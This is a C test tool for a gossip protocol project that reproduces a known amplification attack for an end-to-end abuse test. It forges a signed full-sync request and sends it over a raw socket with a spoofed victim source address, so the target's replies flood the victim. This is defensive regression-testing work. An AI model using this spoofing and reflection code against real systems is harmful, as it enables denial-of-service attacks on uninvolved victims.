/* spoof-sync: the amplification attack of issue 11, as a key holder would
 * make it, for tests/e2e/55-abuse.bats. One datagram, a full-sync request
 * plus a summary of nothing (the same plaintext as tests/unit/
 * test_gossip_amp.c's attack()), sealed under the pair key of a fresh node
 * identity and the target's node ID (so the target takes it as proven from
 * that identity), sent from a raw socket with a victim's address as its
 * source: every reply of the target goes to the victim.
 *
 *	spoof-sync SECRET TOPIC_HEX TARGET_ID_HEX SRC_IP SRC_PORT DST_IP DST_PORT
 *
 * Prints "spoof-sync: sent ip_bytes=N" (the IPv4 datagram's length, what an
 * iptables byte counter at the victim counts of each reply). Root (raw
 * socket). Test tool: it links the wire codec and core/crypto, never glued.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "core/crypto.h"
#include "core/gossip.h"
#include "core/gossip_wire.h"
#include "lib/hex.h"
#include "lib/wire.h"

static void usage(void)
{
	fprintf(stderr, "usage: spoof-sync SECRET TOPIC_HEX TARGET_ID_HEX SRC_IP SRC_PORT DST_IP "
			"DST_PORT\n");
	exit(2);
}

/* Exactly 2 * n hex digits into out; 0 or -1. */
static int unhex(uint8_t *out, size_t n, const char *s)
{
	if (strlen(s) != 2 * n)
		return -1;
	for (size_t i = 0; i < n; i++) {
		int hi = hex_digit(s[2 * i]), lo = hex_digit(s[2 * i + 1]);

		if (hi < 0 || lo < 0)
			return -1;
		out[i] = (uint8_t)(hi << 4 | lo);
	}
	return 0;
}

static int port_arg(const char *s, uint16_t *port)
{
	char *end;
	unsigned long v = strtoul(s, &end, 10);

	if (!*s || *end || v == 0 || v > 65535)
		return -1;
	*port = (uint16_t)v;
	return 0;
}

/* The plaintext: header, full-sync request, summary of nothing. */
static size_t attack(uint8_t *buf, uint64_t epoch)
{
	struct wire_out w = wire_out_init(buf, GOSSIP_DGRAM_MAX);
	struct gw_hdr h = {.epoch = epoch};
	uint64_t zero[GW_BUCKETS] = {0};

	gw_put_hdr(&w, &h);
	gw_put_sync_req(&w, 1, 1, 0, 0, GW_SYNC_FULL);
	gw_put_summary(&w, 0, 1, zero);
	return wire_out_len(&w);
}

int main(int argc, char **argv)
{
	uint8_t topic[CRYPTO_TOPIC_LEN], target[GOSSIP_ID_LEN], pk[GOSSIP_ID_LEN];
	uint8_t sk[CRYPTO_SK_LEN], xsk[CRYPTO_X25519_LEN], nonce[CRYPTO_NONCE_LEN];
	uint8_t pt[GOSSIP_DGRAM_MAX],
	    pkt[sizeof(struct iphdr) + sizeof(struct udphdr) + GOSSIP_DGRAM_MAX + CRYPTO_OVERHEAD];
	struct crypto_key cluster, pair;
	struct crypto_hdr h = {.kind = CRYPTO_KIND_GOSSIP, .epoch = 1, .seq = 1};
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(pkt + sizeof(*ip));
	struct sockaddr_in dst = {.sin_family = AF_INET};
	struct in_addr src;
	uint16_t sport, dport;
	size_t len;
	int n, fd;

	if (argc != 8)
		usage();
	if (unhex(topic, sizeof(topic), argv[2]) || unhex(target, sizeof(target), argv[3])) {
		fprintf(stderr, "spoof-sync: TOPIC_HEX and TARGET_ID_HEX are 64 hex digits\n");
		return 2;
	}
	if (inet_pton(AF_INET, argv[4], &src) != 1 ||
	    inet_pton(AF_INET, argv[6], &dst.sin_addr) != 1 || port_arg(argv[5], &sport) ||
	    port_arg(argv[7], &dport)) {
		fprintf(stderr, "spoof-sync: addresses are IPv4, ports 1-65535\n");
		return 2;
	}
	if (crypto_global_init() != 0)
		return 1;
	crypto_key_derive(&cluster, argv[1], strlen(argv[1]), topic);
	crypto_sign_keypair(pk, sk);
	if (crypto_x25519_secret(xsk, sk) || crypto_pair_key(&pair, &cluster, xsk, pk, target)) {
		fprintf(stderr, "spoof-sync: TARGET_ID_HEX is not a usable public key\n");
		return 2;
	}
	memcpy(h.node_id, pk, sizeof(pk));
	randombytes_buf(nonce, sizeof(nonce));
	len = attack(pt, 1);
	n = crypto_seal(&pair, &h, nonce, pt, len, pkt + sizeof(*ip) + sizeof(*udp),
			sizeof(pkt) - sizeof(*ip) - sizeof(*udp));
	if (n < 0)
		return 1;

	*ip = (struct iphdr){.version = 4,
			     .ihl = 5,
			     .ttl = 64,
			     .protocol = IPPROTO_UDP,
			     .saddr = src.s_addr,
			     .daddr = dst.sin_addr.s_addr};
	len = sizeof(*ip) + sizeof(*udp) + (size_t)n;
	ip->tot_len = htons((uint16_t)len);
	/* No UDP checksum (0: allowed over IPv4); the kernel fills the IP one. */
	*udp = (struct udphdr){.source = htons(sport),
			       .dest = htons(dport),
			       .len = htons((uint16_t)(len - sizeof(*ip)))};
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IP_HDRINCL implied */
	if (fd < 0) {
		fprintf(stderr, "spoof-sync: raw socket: %s\n", strerror(errno));
		return 1;
	}
	if (sendto(fd, pkt, len, 0, (struct sockaddr *)&dst, sizeof(dst)) != (ssize_t)len) {
		fprintf(stderr, "spoof-sync: send: %s\n", strerror(errno));
		return 1;
	}
	close(fd);
	sodium_memzero(sk, sizeof(sk));
	printf("spoof-sync: sent ip_bytes=%zu\n", len);
	return 0;
}
